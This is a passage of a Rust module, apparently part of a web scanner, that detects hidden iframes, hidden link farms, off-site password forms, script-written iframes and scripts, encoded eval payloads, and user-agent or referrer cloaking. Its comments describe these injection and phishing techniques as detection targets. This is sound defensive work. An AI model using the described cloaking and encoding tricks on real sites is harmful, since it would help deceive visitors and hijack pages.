//! Structural checks: facts about a page's structure (hidden iframes, hidden link farms,
//! password forms, what its scripts write, decode and branch on) rather than words in it. A
//! rule uses one as `check = {...}` (its findings are the check's evidence) or as
//! `requires = {...}` (its text hits count only on pages where the check finds something).
//! `rulesets/README.md` documents the kinds and their options.

pub(crate) mod brands;

use std::collections::HashSet;
use std::ops::Range;

use serde::Serialize;

use super::domains::{AllowList, host_range, is_within, lookup_host};
use crate::domain::registrable_domain;
use crate::extract::{Document, Zone, ZoneKind};
use crate::normalize::{Derived, NormalizedZones};
use crate::script::{Script, SinkKind, UNKNOWN};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum CheckKind {
    /// Hidden or zero-size iframes to another site.
    HiddenIframe,
    /// Many links in hidden content to other sites (暗链).
    HiddenLinks,
    /// A form with a password field (optionally: posting to another site).
    PasswordForm,
    /// A script writes a zero-size or hidden iframe of another site (`document.write`,
    /// `innerHTML`).
    WrittenIframe,
    /// A script writes a `<script src>` of another site.
    WrittenScript,
    /// Encoded text (`%XX`, `\xXX`, Base64, character codes) handed to `eval` or
    /// `document.write` that decodes to a URL of another site.
    EncodedScript,
    /// An `if` on the user agent or referrer (its `condition`) whose branch redirects to
    /// another site or writes other content.
    ScriptBranch,
    /// A page claiming a brand that asks for a secret off the brand's domains (`brands.rs`).
    BrandCredentials,
}

impl CheckKind {
    pub const ALL: [CheckKind; 8] = [
        CheckKind::HiddenIframe,
        CheckKind::HiddenLinks,
        CheckKind::PasswordForm,
        CheckKind::WrittenIframe,
        CheckKind::WrittenScript,
        CheckKind::EncodedScript,
        CheckKind::ScriptBranch,
        CheckKind::BrandCredentials,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            CheckKind::HiddenIframe => "hidden_iframe",
            CheckKind::HiddenLinks => "hidden_links",
            CheckKind::PasswordForm => "password_form",
            CheckKind::WrittenIframe => "written_iframe",
            CheckKind::WrittenScript => "written_script",
            CheckKind::EncodedScript => "encoded_script",
            CheckKind::ScriptBranch => "script_branch",
            CheckKind::BrandCredentials => "brand_credentials",
        }
    }

    pub fn parse(name: &str) -> Option<CheckKind> {
        CheckKind::ALL.into_iter().find(|k| k.as_str() == name)
    }

    /// The zone its evidence quotes (the script checks quote `js` in a JavaScript file).
    pub fn zone(self) -> ZoneKind {
        match self {
            CheckKind::HiddenIframe => ZoneKind::Iframe,
            CheckKind::HiddenLinks => ZoneKind::Link,
            CheckKind::PasswordForm => ZoneKind::Form,
            CheckKind::WrittenIframe
            | CheckKind::WrittenScript
            | CheckKind::EncodedScript
            | CheckKind::ScriptBranch => ZoneKind::Script,
            CheckKind::BrandCredentials => ZoneKind::Title,
        }
    }

    /// Options that apply to this kind besides `kind`, `allow_domains` and `allow_list`.
    pub fn options(self) -> &'static [&'static str] {
        match self {
            CheckKind::HiddenIframe => &["foreign_only", "zero_size_only"],
            CheckKind::HiddenLinks => &["foreign_only", "min_links", "min_hosts"],
            CheckKind::PasswordForm => &["foreign_only"],
            CheckKind::WrittenIframe | CheckKind::WrittenScript => &["foreign_only"],
            CheckKind::EncodedScript => &["foreign_only", "min_encoded"],
            CheckKind::ScriptBranch => &["foreign_only", "condition"],
            CheckKind::BrandCredentials => &["brands_file", "claim", "credentials"],
        }
    }
}

/// `script_branch`'s `condition`: groups of terms, each of which must have a term in an `if`'s
/// condition (or in what the names it tests were given), compared ASCII-case-insensitively
/// with backslashes removed (`sm\.cn` in a regex literal is `sm.cn`).
#[derive(Debug, Clone, Default, Serialize)]
pub struct Condition {
    pub groups: Vec<Vec<String>>,
    /// Each group's terms (and their regex-escaped forms, `sm\\.cn`), to skip scripts that
    /// cannot hold a matching condition without lexing them. Searched in the script's text
    /// with its ASCII letters lowered, as the terms are.
    #[serde(skip)]
    finders: Vec<Vec<memchr::memmem::Finder<'static>>>,
}

impl PartialEq for Condition {
    // The finders are built from the groups.
    fn eq(&self, other: &Condition) -> bool {
        self.groups == other.groups
    }
}

impl Eq for Condition {}

impl Condition {
    pub(crate) fn new(groups: Vec<Vec<String>>) -> Condition {
        let groups: Vec<Vec<String>> = groups
            .into_iter()
            .map(|g| {
                g.into_iter()
                    .map(|t| t.to_ascii_lowercase().replace('\\', ""))
                    .collect()
            })
            .collect();
        let finders = groups
            .iter()
            .map(|terms| {
                terms
                    .iter()
                    .flat_map(|term| {
                        let escaped = term.contains('.').then(|| term.replace('.', "\\."));
                        std::iter::once(term.clone()).chain(escaped)
                    })
                    .map(|pattern| memchr::memmem::Finder::new(pattern.as_bytes()).into_owned())
                    .collect()
            })
            .collect();
        Condition { groups, finders }
    }

    /// Whether every group has a term somewhere in `lowered` (a script's text with its ASCII
    /// letters lowered; not necessarily in one condition). Each term is one SIMD substring
    /// search, stopping at the first group without a term: one overlapping automaton pass
    /// over all terms walked every byte of every script.
    fn may_hold(&self, lowered: &str) -> bool {
        !self.finders.is_empty()
            && self.finders.iter().all(|group| {
                group
                    .iter()
                    .any(|finder| finder.find(lowered.as_bytes()).is_some())
            })
    }

    fn holds(&self, context: &str) -> bool {
        !self.groups.is_empty()
            && self
                .groups
                .iter()
                .all(|g| g.iter().any(|t| context.contains(t.as_str())))
    }
}

/// Default `min_encoded` of `encoded_script`: fewer encoded characters is a tag's `%3C` or a
/// stray escape, not a hidden payload.
pub const DEFAULT_MIN_ENCODED: u32 = 20;

/// A validated check.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Check {
    pub kind: CheckKind,
    /// Count only targets on another site (see [`Site`]). Default: true for `hidden_iframe`
    /// and `hidden_links`, false for `password_form`.
    pub foreign_only: bool,
    /// `hidden_iframe`: count only iframes of at most 1px (`width`/`height`), not iframes in
    /// hidden blocks: portals hide whole tabs of ordinary widget iframes, while injected
    /// iframes are made tiny themselves.
    pub zero_size_only: bool,
    /// `hidden_links`: the fewest counted links that make a farm.
    pub min_links: u32,
    /// `hidden_links`: the fewest distinct sites among them.
    pub min_hosts: u32,
    /// Domains (and their subdomains) never counted: widgets and trackers that hide iframes on
    /// purpose.
    pub allow_domains: Vec<String>,
    /// The allowlist files (`allow_list`) whose hosts are never counted, as the rule names them.
    pub allow_lists: Vec<String>,
    /// `encoded_script`: the fewest encoded characters that make an encoded payload.
    pub min_encoded: u32,
    /// `script_branch`: what the `if` must test.
    pub condition: Condition,
    #[serde(skip)]
    pub(crate) allow_list: Option<std::sync::Arc<AllowList>>,
    /// `brand_credentials`: the brands table and what counts as a claim and a secret.
    pub brand: Option<brands::BrandCheck>,
}

/// Default `min_links` of `hidden_links`: a hidden menu or a couple of share buttons is not a
/// farm; the farms seen on hijacked sites carry dozens.
pub const DEFAULT_MIN_LINKS: u32 = 5;

impl Check {
    pub fn new(kind: CheckKind) -> Check {
        Check {
            kind,
            foreign_only: kind != CheckKind::PasswordForm,
            zero_size_only: false,
            min_links: DEFAULT_MIN_LINKS,
            min_hosts: 1,
            allow_domains: Vec::new(),
            allow_lists: Vec::new(),
            allow_list: None,
            min_encoded: DEFAULT_MIN_ENCODED,
            condition: Condition::default(),
            brand: None,
        }
    }
}

/// One piece of evidence: a range of a zone's original text, and how many items it stands
/// for (a farm's links).
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Evidence {
    pub zone: ZoneKind,
    pub range: Range<usize>,
    pub count: usize,
}

/// What a page is, for "another site": its registrable domain when the page URL is known, and
/// the registrable domains its visible links go to.
///
/// A target counts as foreign when it is not on the page's own site *and* no visible link of
/// the page goes to its site. The second half keeps file scans (no page URL) usable: a hidden
/// dropdown menu links where the visible menu does, and a login form that posts to the site's
/// own absolute URL posts where the site's visible links go; a farm's or a phishing kit's
/// targets are linked from nowhere visible.
pub(crate) struct Site<'a> {
    own: Option<String>,
    links: &'a [crate::extract::Link],
    /// Computed on first use: most pages have no hidden iframe, hidden link or password form.
    visible: std::cell::OnceCell<HashSet<String>>,
    zones: &'a [Zone],
    /// The page's scripts, lexed on first use by any script check.
    scripts: std::cell::OnceCell<Vec<Lexed<'a>>>,
    /// The script zones' texts with ASCII letters lowered, made on first use: what the
    /// `script_branch` conditions look for their terms in.
    lowered_scripts: std::cell::OnceCell<Vec<String>>,
    /// The zones as the rules normalized them, when they did.
    normalized: Option<&'a NormalizedZones>,
}

impl<'a> Site<'a> {
    pub fn of(document: &'a Document, page_url: Option<&str>) -> Site<'a> {
        let own = page_url
            .and_then(crate::domain::host_of)
            .and_then(|h| registrable_domain(&h));
        Site {
            own,
            links: &document.links,
            visible: std::cell::OnceCell::new(),
            zones: &document.zones,
            scripts: std::cell::OnceCell::new(),
            lowered_scripts: std::cell::OnceCell::new(),
            normalized: None,
        }
    }

    /// Lets the checks read the zones the rules normalized instead of normalizing them again.
    pub(crate) fn with_normalized(self, normalized: &'a NormalizedZones) -> Site<'a> {
        Site {
            normalized: Some(normalized),
            ..self
        }
    }

    /// Zone `index` of the page as the rules normalized it, when they did.
    pub(crate) fn normalized(&self, index: usize) -> Option<&'a Derived> {
        self.normalized.and_then(|n| n.zone(index))
    }

    /// The page's registrable domain, when its URL (or `<base>`) is known.
    pub(crate) fn own(&self) -> Option<&str> {
        self.own.as_deref()
    }

    /// The script zones' texts (`script` of a page, `js` of a JavaScript file).
    fn script_texts(&self) -> impl Iterator<Item = (ZoneKind, &'a str)> + 'a {
        self.zones
            .iter()
            .filter(|z| matches!(z.kind, ZoneKind::Script | ZoneKind::Js))
            .map(|z| (z.kind, z.text.as_str()))
    }

    fn lowered_scripts(&self) -> &[String] {
        self.lowered_scripts.get_or_init(|| {
            self.script_texts()
                .map(|(_, text)| text.to_ascii_lowercase())
                .collect()
        })
    }

    fn scripts(&self) -> &[Lexed<'a>] {
        self.scripts.get_or_init(|| {
            self.script_texts()
                .map(|(zone, text)| Lexed {
                    zone,
                    script: Script::lex(text),
                    sinks: std::cell::OnceCell::new(),
                    branches: std::cell::OnceCell::new(),
                })
                .collect()
        })
    }

    /// The registrable domain of `url` when it is on another site, `None` when it is ours or
    /// has no host (relative, `javascript:`).
    fn foreign(&self, url: &str) -> Option<String> {
        let site = site_of(url)?;
        if self.own.as_deref() == Some(site.as_str()) {
            return None;
        }
        let visible = self.visible.get_or_init(|| {
            self.links
                .iter()
                .filter(|l| !l.hidden)
                .filter_map(|l| site_of(&l.url))
                .collect()
        });
        (!visible.contains(&site)).then_some(site)
    }
}

/// One script zone, lexed, with what several checks read from it, worked out once: the seven
/// script rules of the shipped rulesets share it.
struct Lexed<'a> {
    zone: ZoneKind,
    script: Script<'a>,
    sinks: std::cell::OnceCell<Vec<FoldedSink>>,
    branches: std::cell::OnceCell<Vec<crate::script::Branch>>,
}

impl Lexed<'_> {
    fn sinks(&self) -> &[FoldedSink] {
        self.sinks.get_or_init(|| {
            // Names resolved to long literals could make every call fold the same text again.
            let mut budget = MAX_FOLDED_PER_SCRIPT;
            self.script
                .sinks()
                .into_iter()
                .map(|sink| {
                    let folded = if budget > 0 {
                        self.script.fold(sink.args.clone())
                    } else {
                        Default::default()
                    };
                    budget = budget.saturating_sub(folded.text.len());
                    FoldedSink {
                        folded,
                        sink,
                        urls: std::cell::OnceCell::new(),
                    }
                })
                .collect()
        })
    }

    fn branches(&self) -> &[crate::script::Branch] {
        self.branches.get_or_init(|| self.script.branches())
    }
}

/// Bytes of folded arguments kept per script, at most.
const MAX_FOLDED_PER_SCRIPT: usize = 8 << 20;

/// A write or eval with its argument folded, and the URLs that decodes to (on first use).
struct FoldedSink {
    sink: crate::script::Sink,
    folded: crate::script::Folded,
    urls: std::cell::OnceCell<Vec<String>>,
}

impl FoldedSink {
    fn urls(&self) -> &[String] {
        self.urls.get_or_init(|| decoded_urls(&self.folded.text))
    }
}

fn site_of(url: &str) -> Option<String> {
    let range = host_range(url)?;
    let host = lookup_host(&url[range])?;
    registrable_domain(&host).or_else(|| Some(host.into_owned()))
}

fn allowed(check: &Check, url: &str) -> bool {
    if check.allow_domains.is_empty() && check.allow_list.is_none() {
        return false;
    }
    let Some(host) = host_range(url).and_then(|r| lookup_host(&url[r]).map(|h| h.into_owned()))
    else {
        return false;
    };
    check.allow_domains.iter().any(|d| is_within(&host, d))
        || check.allow_list.as_ref().is_some_and(|a| a.covers(&host))
}

/// Ranges of the lines of a multi-line zone whose first word is each URL, matched in order
/// (zones list their items in document order, leaving out items without a URL).
fn locate<'u>(zone: &str, urls: impl Iterator<Item = &'u str>) -> Vec<Option<Range<usize>>> {
    let starts: Vec<usize> = line_starts(zone).collect();
    let mut next = 0;
    let mut out = Vec::new();
    for url in urls {
        if url.is_empty() {
            out.push(None);
            continue;
        }
        // Items and lines are in the same order; a miss does not move the cursor, so one
        // surprise does not shift every later item.
        let found = starts[next..].iter().position(|&start| {
            let line = &zone[start..];
            line.starts_with(url)
                && matches!(line.as_bytes().get(url.len()), None | Some(b' ' | b'\n'))
        });
        match found {
            Some(i) => {
                let start = starts[next + i];
                next += i + 1;
                out.push(Some(start..start + url.len()));
            }
            None => out.push(None),
        }
    }
    out
}

fn line_starts(text: &str) -> impl Iterator<Item = usize> + '_ {
    std::iter::once(0).chain(memchr::memchr_iter(b'\n', text.as_bytes()).map(|i| i + 1))
}

/// Run a check on a document; empty when it finds nothing.
pub(crate) fn run(check: &Check, document: &Document, site: &Site<'_>) -> Vec<Evidence> {
    match check.kind {
        CheckKind::BrandCredentials => check
            .brand
            .as_ref()
            .map_or_else(Vec::new, |b| brands::run(b, document, site)),
        CheckKind::HiddenIframe => hidden_iframes(check, document, site),
        CheckKind::HiddenLinks => hidden_links(check, document, site),
        CheckKind::WrittenIframe | CheckKind::WrittenScript | CheckKind::EncodedScript => {
            script_sinks(check, site)
        }
        CheckKind::ScriptBranch => script_branches(check, site),
        CheckKind::PasswordForm => password_forms(check, document, site),
    }
}

/// The text of the zone a check's evidence is in.
fn zone_text<'d>(check: &Check, document: &'d Document) -> &'d str {
    document
        .zone(check.kind.zone())
        .map_or("", |z| z.text.as_str())
}

/// Whether a target counts for the check: not allowed, and on another site when it must be.
fn counts(check: &Check, site: &Site<'_>, url: &str) -> bool {
    !allowed(check, url) && (!check.foreign_only || site.foreign(url).is_some())
}

/// [`counts`], for what a script writes or redirects to: only when its host is known.
fn counts_url(check: &Check, site: &Site<'_>, url: &str) -> bool {
    site_of(url).is_some() && counts(check, site, url)
}

fn hidden_iframes(check: &Check, document: &Document, site: &Site<'_>) -> Vec<Evidence> {
    let wanted: Vec<bool> = document
        .iframes
        .iter()
        .map(|f| {
            (f.zero_size || (f.hidden && !check.zero_size_only))
                && site_of(&f.src).is_some()
                && counts(check, site, &f.src)
        })
        .collect();
    if !wanted.contains(&true) {
        return Vec::new();
    }
    let located = locate(
        zone_text(check, document),
        document.iframes.iter().map(|f| f.src.as_str()),
    );
    located
        .into_iter()
        .zip(wanted)
        .filter_map(|(range, wanted)| range.filter(|_| wanted))
        .map(|range| Evidence {
            zone: ZoneKind::Iframe,
            range,
            count: 1,
        })
        .collect()
}

/// A farm of hidden links: enough of them, to enough sites; the evidence is the first.
fn hidden_links(check: &Check, document: &Document, site: &Site<'_>) -> Vec<Evidence> {
    let mut first = None;
    let mut links = 0usize;
    let mut hosts = HashSet::new();
    for (i, link) in document.links.iter().enumerate() {
        if !link.hidden || allowed(check, &link.url) {
            continue;
        }
        let site = if check.foreign_only {
            site.foreign(&link.url)
        } else {
            site_of(&link.url)
        };
        let Some(site) = site else { continue };
        links += 1;
        hosts.insert(site);
        first.get_or_insert(i);
    }
    let Some(first) = first else {
        return Vec::new();
    };
    if links < check.min_links as usize || hosts.len() < check.min_hosts as usize {
        return Vec::new();
    }
    let located = locate(
        zone_text(check, document),
        document.links[..=first].iter().map(|l| l.url.as_str()),
    );
    match located.last().cloned().flatten() {
        Some(range) => vec![Evidence {
            zone: ZoneKind::Link,
            range,
            count: links,
        }],
        None => Vec::new(),
    }
}

/// What scripts write (a hidden iframe, a script) or decode and run (an encoded payload).
fn script_sinks(check: &Check, site: &Site<'_>) -> Vec<Evidence> {
    // Lexing is linear but not free; most scripts write and eval nothing.
    if !site.script_texts().any(|(_, text)| has_sink(text)) {
        return Vec::new();
    }
    let counted = |url: &str| counts_url(check, site, url);
    let mut out = Vec::new();
    for lexed in site.scripts() {
        for (index, FoldedSink { sink, folded, .. }) in lexed.sinks().iter().enumerate() {
            let found = match check.kind {
                CheckKind::WrittenIframe => {
                    sink.kind == SinkKind::Write
                        && tags(&folded.text, &["iframe", "frame"])
                            .any(|tag| tag.hidden() && tag.src().is_some_and(counted))
                }
                CheckKind::WrittenScript => {
                    sink.kind == SinkKind::Write
                        && tags(&folded.text, &["script"]).any(|tag| tag.src().is_some_and(counted))
                }
                _ => {
                    folded.encoded >= check.min_encoded as usize
                        && lexed.sinks()[index].urls().iter().any(|u| counted(u))
                }
            };
            if found {
                out.push(evidence_of(lexed.zone, &lexed.script, sink.call.clone()));
            }
        }
    }
    out
}

/// Branches (an `if`, or `a && b`) that redirect or write when their condition holds.
fn script_branches(check: &Check, site: &Site<'_>) -> Vec<Evidence> {
    // Scripts and their texts come in the same order; each text is searched once.
    let may_hold: Vec<bool> = site
        .lowered_scripts()
        .iter()
        .map(|text| check.condition.may_hold(text))
        .collect();
    if !may_hold.contains(&true) {
        return Vec::new();
    }
    let counted = |url: &str| counts_url(check, site, url);
    let mut out = Vec::new();
    for (lexed, _) in site.scripts().iter().zip(may_hold).filter(|(_, m)| *m) {
        let script = &lexed.script;
        // What a branch does is cheaper to see than what its condition tests (definitions,
        // enclosing conditions), and few scripts redirect at all.
        let everywhere = 0..script.tokens.len();
        let acting = actions(script, lexed.sinks(), everywhere, &counted);
        if acting.is_empty() {
            continue;
        }
        acting_branches(check, lexed, &acting, &mut out);
        short_circuits(check, lexed, &acting, &mut out);
    }
    out
}

/// `if` branches of `lexed` whose bodies hold one of the `acting` tokens.
fn acting_branches(check: &Check, lexed: &Lexed<'_>, acting: &[usize], out: &mut Vec<Evidence>) {
    let script = &lexed.script;
    let branches = lexed.branches();
    let mut contexts = 0usize;
    for branch in branches {
        if contexts >= MAX_CONTEXTS_PER_SCRIPT {
            break;
        }
        let acts = branch.bodies.iter().any(|body| {
            let first = acting.partition_point(|&a| a < body.start);
            acting.get(first).is_some_and(|&a| a < body.end)
        });
        if !acts {
            continue;
        }
        contexts += 1;
        if check
            .condition
            .holds(&condition_context(script, branches, branch))
        {
            out.push(evidence_of(
                lexed.zone,
                script,
                branch.keyword..branch.condition.end + 1,
            ));
        }
    }
}

/// `cond && action()`: the `acting` tokens behind a short-circuit condition.
fn short_circuits(check: &Check, lexed: &Lexed<'_>, acting: &[usize], out: &mut Vec<Evidence>) {
    let script = &lexed.script;
    for &action in acting.iter().take(MAX_CONTEXTS_PER_SCRIPT) {
        let Some(condition) = short_circuit_condition(script, action) else {
            continue;
        };
        let branch = crate::script::Branch {
            keyword: condition.start,
            condition: condition.clone(),
            bodies: Vec::new(),
        };
        if check
            .condition
            .holds(&condition_context(script, lexed.branches(), &branch))
        {
            out.push(evidence_of(lexed.zone, script, condition));
        }
    }
}

fn password_forms(check: &Check, document: &Document, site: &Site<'_>) -> Vec<Evidence> {
    let wanted: Vec<bool> = document
        .forms
        .iter()
        .map(|f| f.has_password && counts(check, site, &f.action))
        .collect();
    if !wanted.contains(&true) {
        return Vec::new();
    }
    let located = locate(
        zone_text(check, document),
        document.forms.iter().map(|f| f.action.as_str()),
    );
    located
        .into_iter()
        .zip(wanted)
        .filter(|(_, wanted)| *wanted)
        .map(|(range, _)| Evidence {
            zone: ZoneKind::Form,
            // A form without an action line (no action and no page URL) still holds for
            // `requires`; as a finding it quotes nothing.
            range: range.unwrap_or(usize::MAX..usize::MAX),
            count: 1,
        })
        .collect()
}

/// Evidence quotes at most this many bytes of a script construct.
const MAX_SCRIPT_EVIDENCE: usize = 200;

fn evidence_of(zone: ZoneKind, script: &Script<'_>, tokens: std::ops::Range<usize>) -> Evidence {
    let mut range = script.span(tokens.start..tokens.end.min(script.tokens.len()));
    if range.len() > MAX_SCRIPT_EVIDENCE {
        let mut end = range.start + MAX_SCRIPT_EVIDENCE;
        while !script.text.is_char_boundary(end) {
            end -= 1;
        }
        range.end = end;
    }
    Evidence {
        zone,
        range,
        count: 1,
    }
}

/// Whether a script text may write or run anything (before lexing it).
fn has_sink(text: &str) -> bool {
    [
        "write",
        "eval",
        "innerHTML",
        "outerHTML",
        "insertAdjacentHTML",
        "Function",
        "setTimeout",
        "setInterval",
    ]
    .iter()
    .any(|w| memchr::memmem::find(text.as_bytes(), w.as_bytes()).is_some())
}

/// An element in written markup.
struct Tag<'t> {
    attrs: Vec<(String, &'t str)>,
}

impl Tag<'_> {
    fn attr(&self, name: &str) -> Option<&str> {
        self.attrs.iter().find(|(n, _)| n == name).map(|(_, v)| *v)
    }

    /// The `src` up to the first part only known at run time, when the host is complete
    /// before it (`http://x.test/a?r=` + a random number); `None` when the host itself is
    /// built at run time.
    fn src(&self) -> Option<&str> {
        let src = self.attr("src")?.trim();
        let known = match src.find(UNKNOWN) {
            Some(i) => &src[..i],
            None => return Some(src),
        };
        let host = host_range(known)?;
        matches!(
            known.as_bytes().get(host.end),
            Some(b'/' | b'?' | b'#' | b':')
        )
        .then_some(known)
    }

    /// Zero-size (`width`/`height` of at most 1px) or hidden by its own style.
    fn hidden(&self) -> bool {
        let tiny = |v: &str| {
            let v = v.trim().trim_end_matches("px").trim();
            v.parse::<f32>().is_ok_and(|n| n <= 1.0)
        };
        if self.attr("width").is_some_and(tiny) || self.attr("height").is_some_and(tiny) {
            return true;
        }
        let Some(style) = self.attr("style") else {
            return false;
        };
        let mut hidden = false;
        let mut tiny_box = false;
        let mut min_size = false;
        for decl in style.split(';') {
            let Some((name, value)) = decl.split_once(':') else {
                continue;
            };
            let name = name.trim().to_ascii_lowercase();
            let value = value.trim().to_ascii_lowercase();
            let value = value.trim_end_matches("!important").trim();
            match name.as_str() {
                "display" if value == "none" => hidden = true,
                "visibility" if value == "hidden" => hidden = true,
                "width" | "height" if tiny(value) => tiny_box = true,
                // A chart that sizes itself with `width:0; min-width:100%` is not tiny.
                "min-width" | "min-height" if !tiny(value) => min_size = true,
                _ => {}
            }
        }
        hidden || (tiny_box && !min_size)
    }
}

/// The `<iframe>`, `<frame>` or `<script>` start tags (as `names`) in written markup.
fn tags<'t>(html: &'t str, names: &'static [&'static str]) -> impl Iterator<Item = Tag<'t>> + 't {
    let lower = html.to_ascii_lowercase();
    let mut starts = Vec::new();
    for name in names {
        let open = format!("<{name}");
        let mut from = 0;
        while let Some(i) = lower[from..].find(&open) {
            let at = from + i;
            from = at + open.len();
            let after = lower.as_bytes().get(from);
            if after.is_none_or(|b| b.is_ascii_whitespace() || matches!(b, b'>' | b'/')) {
                starts.push(from);
            }
        }
    }
    starts.sort_unstable();
    starts.into_iter().map(move |start| {
        let end = html[start..].find('>').map_or(html.len(), |i| start + i);
        Tag {
            attrs: attributes(&html[start..end]),
        }
    })
}

/// `name=value` attributes of a start tag's inside (quoted, unquoted, or bare names).
fn attributes(inside: &str) -> Vec<(String, &str)> {
    let mut out = Vec::new();
    let bytes = inside.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        while i < bytes.len() && (bytes[i].is_ascii_whitespace() || bytes[i] == b'/') {
            i += 1;
        }
        let name_start = i;
        while i < bytes.len() && !bytes[i].is_ascii_whitespace() && !matches!(bytes[i], b'=' | b'/')
        {
            i += 1;
        }
        if i == name_start {
            i += 1;
            continue;
        }
        let name = inside[name_start..i].to_ascii_lowercase();
        while i < bytes.len() && bytes[i].is_ascii_whitespace() {
            i += 1;
        }
        if bytes.get(i) != Some(&b'=') {
            out.push((name, ""));
            continue;
        }
        i += 1;
        while i < bytes.len() && bytes[i].is_ascii_whitespace() {
            i += 1;
        }
        let value = match bytes.get(i) {
            Some(&q @ (b'"' | b'\'')) => {
                let start = i + 1;
                let end = inside[start..]
                    .find(q as char)
                    .map_or(inside.len(), |n| start + n);
                i = (end + 1).min(inside.len());
                &inside[start..end]
            }
            _ => {
                let start = i;
                while i < bytes.len() && !bytes[i].is_ascii_whitespace() {
                    i += 1;
                }
                &inside[start..i]
            }
        };
        out.push((name, value));
    }
    out
}

/// Absolute URLs in decoded code or markup: `http(s)://...`, or `//host...` right after a
/// quote or `=` (a `//` elsewhere in code is a comment). Nested encodings are decoded too (an
/// `eval(atob(...))` whose code is another `document.write(unescape(...))`).
fn decoded_urls(text: &str) -> Vec<String> {
    let mut texts = vec![text.to_string()];
    let mut i = 0;
    while i < texts.len() && texts.len() < 4 {
        let inner = Script::lex(&texts[i]);
        let nested: Vec<String> = inner
            .sinks()
            .into_iter()
            .map(|sink| inner.fold(sink.args).text)
            .filter(|t| !t.is_empty())
            .collect();
        texts.extend(nested);
        i += 1;
    }
    let mut out = Vec::new();
    for text in &texts {
        let bytes = text.as_bytes();
        let mut from = 0;
        while let Some(i) = text[from..].find("//") {
            let at = from + i;
            from = at + 2;
            let scheme =
                |s: &[u8]| at >= s.len() && bytes[at - s.len()..at].eq_ignore_ascii_case(s);
            let start = if scheme(b"http:") {
                at - 5
            } else if scheme(b"https:") {
                at - 6
            } else if at > 0 && matches!(bytes[at - 1], b'"' | b'\'' | b'=') {
                at
            } else {
                continue;
            };
            let end = text[from..]
                .find(|c: char| {
                    c.is_whitespace()
                        || matches!(c, '"' | '\'' | '<' | '>' | ')' | '(' | '\\' | UNKNOWN)
                })
                .map_or(text.len(), |n| from + n);
            out.push(text[start..end].to_string());
        }
    }
    out
}

/// What an `if` tests: its condition, what the names in it were given, and (for a name set
/// inside another `if`) that `if`'s condition, to three levels (`if (b)` with `b = true` set
/// where `r.indexOf(sites[i]) > 0`, `r = document.referrer` and `sites = ['baidu.', ...]`),
/// lower case and without backslashes.
fn condition_context(
    script: &Script<'_>,
    branches: &[crate::script::Branch],
    branch: &crate::script::Branch,
) -> String {
    let mut context = script.text[script.span(branch.condition.clone())].to_string();
    let mut queue = vec![(branch.condition.clone(), 0)];
    let mut seen: HashSet<&str> = HashSet::new();
    while let Some((range, depth)) = queue.pop() {
        if depth >= 3 || context.len() > MAX_CONDITION_CONTEXT {
            continue;
        }
        for i in range {
            if script.tokens[i].kind != crate::script::Kind::Ident
                || (i > 0 && script.src(i - 1) == ".")
                || !seen.insert(script.src(i))
            {
                continue;
            }
            for def in script.definitions(script.src(i), branch.keyword) {
                context.push('\n');
                context.push_str(&script.text[script.span(def.clone())]);
                // A value set inside another `if` is decided by that `if` too.
                // Branches are in order of their `if`: the innermost one around the definition
                // is among the last few that start before it.
                let before = branches.partition_point(|b| b.keyword < def.start);
                if let Some(outer) = branches[..before]
                    .iter()
                    .rev()
                    .take(MAX_ENCLOSING_CANDIDATES)
                    .find(|b| {
                        b.keyword != branch.keyword
                            && b.bodies.iter().any(|r| r.contains(&def.start))
                    })
                {
                    context.push('\n');
                    context.push_str(&script.text[script.span(outer.condition.clone())]);
                    queue.push((outer.condition.clone(), depth + 1));
                }
                queue.push((def, depth + 1));
            }
        }
    }
    context.to_ascii_lowercase().replace('\\', "")
}

/// Conditions read per script and kind of reading (an `if`, a `cond && action`), at most: a
/// script with more redirecting branches than this is read no further.
const MAX_CONTEXTS_PER_SCRIPT: usize = 256;

/// `if`s looked at for the one around a definition, at most.
const MAX_ENCLOSING_CANDIDATES: usize = 64;

/// The context of one condition stops growing past this many bytes.
const MAX_CONDITION_CONTEXT: usize = 16 << 10;

/// Where tokens `range` redirect to a counted site or write content (a written URL of a
/// counted site, code run from a string that names one, or a new `document.title`): the token
/// of each such action, in order.
fn actions(
    script: &Script<'_>,
    sinks: &[FoldedSink],
    range: std::ops::Range<usize>,
    counts: &dyn Fn(&str) -> bool,
) -> Vec<usize> {
    use crate::script::Kind;
    let end = range.end.min(script.tokens.len());
    let is = |i: usize, kind: Kind, text: &str| {
        i < end && script.tokens[i].kind == kind && script.src(i) == text
    };
    let expression_end = |start: usize| {
        let mut i = start;
        while i < end {
            if script.tokens[i].kind == Kind::Punct {
                match script.src(i) {
                    "(" | "[" | "{" => {
                        i = script.close(i);
                        continue;
                    }
                    ";" | "," | ")" | "]" | "}" | ":" => break,
                    _ => {}
                }
            }
            i += 1;
        }
        i
    };
    let mut out = Vec::new();
    for i in range.start..end {
        if script.tokens[i].kind != Kind::Ident {
            continue;
        }
        let member_of =
            |object: &str| i >= 2 && script.src(i - 1) == "." && script.src(i - 2) == object;
        let target = match script.src(i) {
            // location = ..., location.href = ..., location.replace(...), location.assign(...)
            "location" => {
                if is(i + 1, Kind::Punct, "=") {
                    Some(i + 2..expression_end(i + 2))
                } else if is(i + 1, Kind::Punct, ".")
                    && is(i + 3, Kind::Punct, "=")
                    && is(i + 2, Kind::Ident, "href")
                {
                    Some(i + 4..expression_end(i + 4))
                } else if is(i + 1, Kind::Punct, ".")
                    && (is(i + 2, Kind::Ident, "replace") || is(i + 2, Kind::Ident, "assign"))
                    && is(i + 3, Kind::Punct, "(")
                {
                    Some(i + 4..script.close(i + 3).saturating_sub(1))
                } else {
                    None
                }
            }
            "open" if member_of("window") && is(i + 1, Kind::Punct, "(") => {
                Some(i + 2..expression_end(i + 2))
            }
            "title" if member_of("document") && is(i + 1, Kind::Punct, "=") => {
                if script
                    .tokens
                    .get(i + 2)
                    .is_some_and(|t| t.kind == Kind::Str)
                {
                    out.push(i);
                }
                None
            }
            _ => None,
        };
        if let Some(target) = target
            && !target.is_empty()
        {
            let url = script.fold(target).text;
            let known = match url.find(UNKNOWN) {
                Some(n) => &url[..n],
                None => &url,
            };
            // The host must be complete before any part only known at run time.
            if host_range(known).is_some_and(|h| known.len() > h.end || !url.contains(UNKNOWN))
                && counts(known.trim())
            {
                out.push(i);
            }
        }
    }
    // Written markup with a counted URL, and code run from a string that names one.
